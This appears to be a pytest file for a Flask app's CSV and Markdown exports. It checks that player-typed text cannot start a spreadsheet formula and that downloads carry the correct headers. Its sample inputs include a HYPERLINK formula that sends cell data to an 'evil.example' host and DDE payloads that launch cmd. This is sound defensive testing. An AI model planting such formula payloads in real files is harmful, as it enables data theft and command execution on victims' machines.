"""What players type reaches the CSV and the Markdown: it must come out as text, never as a
formula for a spreadsheet or markup for whatever renders the minutes next."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from flask import Flask
from flask.testing import FlaskClient

from koerskaart.engine import TableStatus
from koerskaart.reports.exports import to_csv
from koerskaart.reports.summary import ActionItem, TeamSummary
from tests.helpers.hostile import played_with
from tests.helpers.users import log_in, make_user

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")  # OWASP's list, and ASVS's NUL


@pytest.fixture
def facilitator_client(app: Flask) -> FlaskClient:
    make_user("fac@oost.example", role="facilitator")
    return log_in(app, "fac@oost.example")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


# --- CSV: formula injection (OWASP) ------------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def test_no_csv_cell_starts_a_formula(app: Flask, facilitator_client: FlaskClient) -> None:
    actions = (("=Sam", "+Terugblik plannen", "-1 maart"), ("@Kim", "=WEBSERVICE(1)", "gewoon"))
    table_id = played_with(app, facilitator_client, FORMULAS, actions)
    rows = _cells(facilitator_client.get(f"/tables/{table_id}/summary.csv").data)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # Neutralised, not mangled: the text is all there behind the quote Excel hides.
    for typed in [*FORMULAS, *(field for action in actions for field in action)]:
        assert typed in cells or "'" + typed in cells, typed
    assert "'=1+1" in cells and "gewoon" in cells  # only what needs it gets the quote
    # Numbers stay numbers: the first card's first row still counts 2 with a median of 3,0.
    assert rows[1][4] == "2" and rows[1][6] == "3,0"


def test_tabs_carriage_returns_and_nul_at_the_start_are_neutralised_too() -> None:
    """The engine turns tabs and line breaks inside answers into spaces; the exporter does not rely on it."""
    moment = datetime(2026, 3, 1, 10, tzinfo=UTC)
    summary = TeamSummary("Deck", TableStatus.ENDED, moment, moment, players=5, k=3)
    summary.actions = [ActionItem("\tKim", "\r=1+1", "\0x")]
    cells = [cell for row in _cells(to_csv(summary, str, {})) for cell in row]
    assert {"'\tKim", "'\r=1+1", "'\0x"} == {c for c in cells if c.startswith("'")}


# --- headers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("md", "text/markdown; charset=utf-8"),
        ("pdf", "application/pdf"),
    ],
)
def test_each_download_names_its_type_and_charset_once(
    app: Flask, facilitator_client: FlaskClient, fmt: str, content_type: str
) -> None:
    table_id = played_with(app, facilitator_client, ["een", "twee", "drie", "vier", "vijf"])
    response = facilitator_client.get(f"/tables/{table_id}/summary.{fmt}")
    assert response.headers["Content-Type"] == content_type
    assert response.headers["Content-Disposition"].startswith("attachment; ")
